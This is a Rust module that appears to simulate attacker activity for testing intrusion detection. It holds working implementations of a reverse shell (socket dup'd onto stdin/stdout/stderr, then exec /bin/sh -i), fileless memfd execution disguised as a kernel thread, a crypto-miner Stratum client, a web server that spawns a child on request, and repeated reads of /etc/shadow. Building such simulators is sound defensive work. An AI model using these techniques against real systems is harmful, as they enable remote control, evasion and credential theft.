//! The attackers' side. Everything here is harmless: it burns a little CPU, talks to its own peer on loopback, and what it reads it
//! forgets.

use std::{
    ffi::CString,
    io::{Read, Write},
    net::{SocketAddr, TcpListener, TcpStream},
    os::{fd::AsRawFd, unix::process::CommandExt},
    process::Command,
    thread,
    time::Duration,
};

use anyhow::{Context, Result};
use rustix::fs::MemfdFlags;
use sha2::{Digest, Sha256};

use crate::Attack;

/// Between two signs of life.
const BEAT: Duration = Duration::from_millis(20);

pub(crate) fn run(attack: Attack, peer: SocketAddr) -> Result<()> {
    match attack {
        Attack::Miner => mine(peer),
        Attack::ReverseShell => reverse_shell(peer),
        Attack::Fileless => fileless(peer),
        Attack::WebShadow => web_server(peer),
    }
}

/// Stratum's first words, then shares that were really searched for (at a difficulty of 12 bits).
fn mine(pool: SocketAddr) -> Result<()> {
    let mut pool = TcpStream::connect(pool).context("connect to the pool")?;
    pool.write_all(b"{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"standin/1.0\"]}\n")?;
    pool.write_all(b"{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"standin\",\"x\"]}\n")?;
    let mut nonce = 0_u64;
    for id in 3_u64.. {
        loop {
            nonce += 1;
            let hash = Sha256::digest(nonce.to_le_bytes());
            if hash[0] == 0 && hash[1] >> 4 == 0 {
                break;
            }
        }
        let share = format!(
            "{{\"id\":{id},\"method\":\"mining.submit\",\"params\":[\"standin\",\"{nonce:016x}\"]}}\n"
        );
        pool.write_all(share.as_bytes()).context("submit a share")?;
    }
    Ok(())
}

/// What `sh -i >& /dev/tcp/…` comes to.
fn reverse_shell(handler: SocketAddr) -> Result<()> {
    let socket = TcpStream::connect(handler).context("connect to the handler")?;
    rustix::stdio::dup2_stdin(&socket).context("put the socket on stdin")?;
    rustix::stdio::dup2_stdout(&socket).context("put the socket on stdout")?;
    rustix::stdio::dup2_stderr(&socket).context("put the socket on stderr")?;
    // exec returns only if it failed.
    Err(Command::new("/bin/sh").arg("-i").exec()).context("exec /bin/sh")
}

/// Copies this very program into memory and runs it from there.
fn fileless(peer: SocketAddr) -> Result<()> {
    let image = std::fs::read("/proc/self/exe").context("read this program")?;
    let memory = rustix::fs::memfd_create("update", MemfdFlags::empty()).context("memfd_create")?;
    let mut file = std::fs::File::from(memory);
    file.write_all(&image).context("fill the memfd")?;
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    CString::new(path.clone()).context("a path without zero bytes")?;
    Err(Command::new(path).arg0("[kworker/0:1]").args(["beacon", &peer.to_string()]).exec())
        .context("exec the memfd")
}

pub(crate) fn beacon(peer: SocketAddr) -> Result<()> {
    let mut peer = TcpStream::connect(peer).context("connect to the peer")?;
    loop {
        peer.write_all(b"beacon\n").context("beacon")?;
        thread::sleep(BEAT);
    }
}

/// A web server that answers `ok`; the request `/run` makes it start a child, as a hole in it would.
fn web_server(peer: SocketAddr) -> Result<()> {
    let listener = TcpListener::bind(("0.0.0.0", 8080)).context("listen on 8080")?;
    let this = std::env::current_exe().context("find this program")?;
    for client in listener.incoming() {
        let mut client = client.context("accept")?;
        let mut request = [0_u8; 1024];
        let length = client.read(&mut request).context("read a request")?;
        if request.get(..length).is_some_and(|text| text.starts_with(b"GET /run")) {
            // Not waited for: it is meant to outlive the request, as an intruder's child does.
            let _child = Command::new(&this).arg0("sh").args(["read-shadow", &peer.to_string()]).spawn()?;
        }
        client.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 3\r\n\r\nok\n").context("answer")?;
    }
    Ok(())
}

/// Reads /etc/shadow again and again and tells only how long it is.
pub(crate) fn read_shadow(peer: SocketAddr) -> Result<()> {
    let mut peer = TcpStream::connect(peer).context("connect to the peer")?;
    loop {
        let length = std::fs::read("/etc/shadow").map(|text| text.len()).context("read /etc/shadow")?;
        writeln!(peer, "shadow: {length} bytes").context("tell the peer")?;
        thread::sleep(BEAT);
    }
}
